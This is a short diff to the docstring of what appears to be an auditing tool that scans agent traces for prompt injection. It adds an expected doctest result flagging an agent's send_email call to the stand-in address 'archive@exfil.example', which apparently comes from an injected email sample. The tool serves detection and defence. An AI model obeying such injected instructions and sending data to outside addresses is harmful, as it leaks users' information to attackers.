@@ -2,8 +2,9 @@
 ignore, score each one and collect findings.
 
     >>> from auditor.check import check_paths
-    >>> report = check_paths(["examples/injected_email.jsonl"])      # embedded model, FlashTrace
-    >>> report.exit_code(), [f.message for f in report.findings]
+    >>> report = check_paths(["examples/injected_email.jsonl"])  # embedded model, FlashTrace # doctest: +SKIP
+    >>> report.exit_code(), [f.message for f in report.findings]  # doctest: +SKIP
+    (1, ['send_email({"to": "archive@exfil.example", ...}): its to = "archive@exfil.example" is not supported ...'])
 """
 
 from __future__ import annotations
